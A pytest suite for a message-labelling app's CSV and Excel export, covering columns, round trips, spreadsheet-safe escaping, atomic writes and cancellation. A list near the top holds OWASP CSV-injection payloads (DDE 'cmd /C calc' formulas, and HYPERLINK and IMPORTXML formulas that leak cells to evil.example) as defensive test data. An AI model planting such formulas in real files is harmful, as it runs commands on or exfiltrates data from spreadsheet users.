"""Export: columns, byte-exact texts, spreadsheet-safe escaping (OWASP payloads), Excel,
atomic writes, scopes."""

import codecs
import csv
import errno
import os
import re

import numpy as np
import pandas as pd
import pytest

from guiapp.core.collection import Collection
from guiapp.core.commands import set_label
from guiapp.core.errors import Cancelled, ExportError
from guiapp.core.export import (
    EXPORT_COLUMNS,
    TableWriter,
    export_csv,
    export_messages,
    neutralise_cell,
    restore_cell,
)
from guiapp.core.io import load_collection
from guiapp.core.messages import make_frame

# Payloads from OWASP's CSV Injection page and its linked cheat sheets.
OWASP_PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1&A2, "Error: please click for details")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=10+20+cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    '=IMPORTXML(CONCAT("http://evil.example?v=", CONCATENATE(A2:E2)), "//a")',
    "-1+1",
    "@",
    "'=already quoted",
    "''+twice quoted",
]


def read_back(path):
    with open(path, newline="", encoding="utf-8-sig") as fh:
        return list(csv.DictReader(fh))


def read_sheet(path):
    """The workbook's one sheet as lists of texts, OOXML's _xHHHH_ escapes decoded."""
    import openpyxl

    book = openpyxl.load_workbook(path, read_only=True)
    (sheet,) = book.worksheets

    def text(value):
        assert value is None or isinstance(value, str), value  # never a number or formula
        return re.sub(r"_x([0-9A-F]{4})_", lambda m: chr(int(m[1], 16)), value or "")

    rows = [[text(v) for v in row] for row in sheet.iter_rows(values_only=True)]
    book.close()
    return rows


def collection(texts, **columns):
    return Collection(make_frame({"text": texts, **columns}))


def test_columns_and_labels(tmp_path):
    c = collection(["a", "b", "c"], user_spam=[1, -1, -1], kind=["sms"] * 3)
    c.spam_prob[:] = [0.9, 0.2, np.nan]
    c.sentiment_prob[1] = [0.1, 0.2, 0.7]
    c.model_versions = {"spam": "s1", "sentiment": "t1"}
    set_label(c, "sentiment", [0], "negative").apply_to(c)
    out = tmp_path / "x.csv"
    assert export_csv(c, out) == 3
    rows = read_back(out)
    assert tuple(rows[0].keys()) == EXPORT_COLUMNS
    assert [r["spam"] for r in rows] == ["spam", "ham", ""]
    assert [r["spam_by"] for r in rows] == ["user", "model", ""]
    assert [r["spam_score"] for r in rows] == ["0.9000", "0.2000", ""]
    assert [r["sentiment"] for r in rows] == ["negative", "positive", ""]
    assert [r["sentiment_by"] for r in rows] == ["user", "model", ""]
    assert rows[1]["sentiment_score"] == "0.7000"
    assert [r["corrected"] for r in rows] == ["true", "false", "false"]
    assert rows[0]["model_version"] == "sentiment=t1;spam=s1"


def test_scopes_and_selection(tmp_path):
    c = collection(["a", "b", "c", "d"], user_spam=[-1, 0, -1, 1])
    out = tmp_path / "x.csv"
    assert export_csv(c, out, scope="labelled") == 2
    assert [r["text"] for r in read_back(out)] == ["b", "d"]
    assert export_csv(c, out, rows=np.array([3, 0])) == 2
    assert [r["text"] for r in read_back(out)] == ["d", "a"]
    with pytest.raises(ValueError):
        export_csv(c, out, scope="everything")


@pytest.mark.parametrize("payload", OWASP_PAYLOADS)
def test_texts_are_byte_exact_by_default(tmp_path, payload):
    c = collection([payload], subject=[payload], sender=[payload])
    out = tmp_path / "x.csv"
    export_csv(c, out)
    assert not out.read_bytes().startswith(codecs.BOM_UTF8)
    frame = pd.read_csv(out, dtype=str, keep_default_na=False)
    for column in ("text", "subject", "sender"):
        assert frame[column].tolist() == [payload]
    assert load_collection(out).messages["text"].tolist() == [payload]


@pytest.mark.parametrize("payload", OWASP_PAYLOADS)
def test_spreadsheet_safe_neutralises_and_triage_restores(tmp_path, payload):
    c = collection([payload], subject=[payload], sender=[payload])
    out = tmp_path / "x.csv"
    export_csv(c, out, spreadsheet_safe=True)
    assert out.read_bytes().startswith(codecs.BOM_UTF8)  # spreadsheets read it as UTF-8
    row = read_back(out)[0]
    for column in ("text", "subject", "sender"):
        cell = row[column]
        assert cell[0] not in "=+-@\t\r", cell
        assert restore_cell(cell) == payload
    assert neutralise_cell(payload) == row["text"]
    back = load_collection(out).messages
    assert back["text"].tolist() == [payload] and back["sender"].tolist() == [payload]


def test_header_follows_the_same_escaping(tmp_path):
    table = pd.DataFrame({"=HYPERLINK(1)": ["=1+2"], "-note": ["x"], "plain": ["@a"]})
    exact, safe = tmp_path / "exact.csv", tmp_path / "safe.csv"
    TableWriter_write(table, exact, spreadsheet_safe=False)
    TableWriter_write(table, safe, spreadsheet_safe=True)
    with open(exact, newline="", encoding="utf-8") as fh:
        assert list(csv.reader(fh)) == [["=HYPERLINK(1)", "-note", "plain"], ["=1+2", "x", "@a"]]
    with open(safe, newline="", encoding="utf-8-sig") as fh:
        assert list(csv.reader(fh)) == [
            ["'=HYPERLINK(1)", "'-note", "plain"],
            ["'=1+2", "x", "'@a"],
        ]


def TableWriter_write(frame, path, **options):  # noqa: N802 - names what it wraps
    import pyarrow as pa

    table = pa.Table.from_pandas(frame, preserve_index=False)
    with TableWriter(path, table.schema, **options) as writer:
        writer.write(table)
    return writer


def test_xlsx_writes_every_text_as_a_string_cell(tmp_path):
    texts = [*OWASP_PAYLOADS, "0042", "1e5", "http://example.com", "ctrl\x01char", "_x0041_"]
    c = collection(texts, user_spam=[1] + [-1] * (len(texts) - 1))
    c.spam_prob[:] = 0.25
    out = tmp_path / "x.xlsx"
    result = export_messages(c, out)
    assert (result.format, result.rows, result.notes) == ("xlsx", len(texts), [])
    rows = read_sheet(out)
    assert tuple(rows[0]) == EXPORT_COLUMNS
    body = [dict(zip(rows[0], r, strict=True)) for r in rows[1:]]
    assert [r["text"] for r in body] == texts
    assert body[0]["spam"] == "spam" and body[0]["spam_by"] == "user"
    assert body[1]["spam_score"] == "0.2500"  # a string cell, not a number
    assert not any(p.name.endswith(".partial") for p in tmp_path.iterdir())


def test_xlsx_cuts_texts_longer_than_a_cell_and_says_so(tmp_path):
    c = collection(["x" * 40_000, "short"])
    result = export_messages(c, tmp_path / "x.xlsx")
    assert len(result.notes) == 1 and "1 cell(s) longer than the 32,767" in result.notes[0]
    assert len(read_sheet(tmp_path / "x.xlsx")[1][EXPORT_COLUMNS.index("text")]) == 32_767


def test_xlsx_too_many_rows_is_a_clear_error(tmp_path, monkeypatch):
    from guiapp.core import export

    monkeypatch.setattr(export, "XLSX_MAX_ROWS", 3)
    out = tmp_path / "x.xlsx"
    with pytest.raises(ExportError, match="at most 2 messages"):
        export_messages(collection(["a", "b", "c"]), out)
    assert list(tmp_path.iterdir()) == []


def test_text_with_quotes_commas_newlines_and_unicode(tmp_path):
    texts = [
        'a "quoted", text\nwith\r\nbreaks',
        "日本語 😀 Ελληνικά",
        "",
        " leading space",
        "tab\tinside",
    ]
    c = collection(texts)
    out = tmp_path / "x.csv"
    export_csv(c, out)
    frame = pd.read_csv(out, dtype=str, keep_default_na=False)
    assert frame["text"].tolist() == texts


def test_failed_export_leaves_no_partial_file_and_keeps_old_one(tmp_path, monkeypatch):
    out = tmp_path / "x.csv"
    out.write_text("an earlier export\n")
    c = collection([f"message {i}" for i in range(250_000)])
    real_fsync = os.fsync

    def full_disk(fd):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(os, "fsync", full_disk)
    with pytest.raises(ExportError, match="disk is full") as info:
        export_csv(c, out)
    assert str(out) in str(info.value)
    monkeypatch.setattr(os, "fsync", real_fsync)
    assert out.read_text() == "an earlier export\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["x.csv"]


def test_cancelled_export_leaves_nothing(tmp_path):
    c = collection([f"message {i}" for i in range(250_000)])
    out = tmp_path / "x.csv"
    calls = []

    def stop():
        calls.append(1)
        return len(calls) > 1

    with pytest.raises(Cancelled):
        export_csv(c, out, stop_requested=stop)
    assert list(tmp_path.iterdir()) == []


def test_missing_folder_is_a_clear_error(tmp_path):
    with pytest.raises(ExportError, match="folder does not exist"):
        export_csv(collection(["a"]), tmp_path / "nope" / "x.csv")


def test_source_is_the_collections_own_name_not_the_install_path():
    from guiapp.core.export import source_name

    installed = "/usr/lib/python3/site-packages/guiapp/_resources/demo"
    assert source_name(f"{installed}::emails.mbox::1") == "demo: emails.mbox #1"
    assert source_name(f"{installed}::tweets.jsonl") == "demo: tweets.jsonl"
    assert source_name("/home/me/mail/spamassassin.mbox::12") == "spamassassin.mbox #12"
    assert source_name("/home/me/sms.csv") == "sms.csv"
    assert source_name("/home/me/a.zip::in/x.mbox::3") == "a.zip: in/x.mbox #3"


def test_export_source_column_uses_the_name(tmp_path):
    frame = make_frame(
        {"text": ["a", "b"], "source": ["/opt/x/_resources/demo::emails.mbox::1", "/tmp/s.csv"]}
    )
    out = tmp_path / "x.csv"
    export_csv(Collection(frame), out)
    assert [r["source"] for r in read_back(out)] == ["demo: emails.mbox #1", "s.csv"]
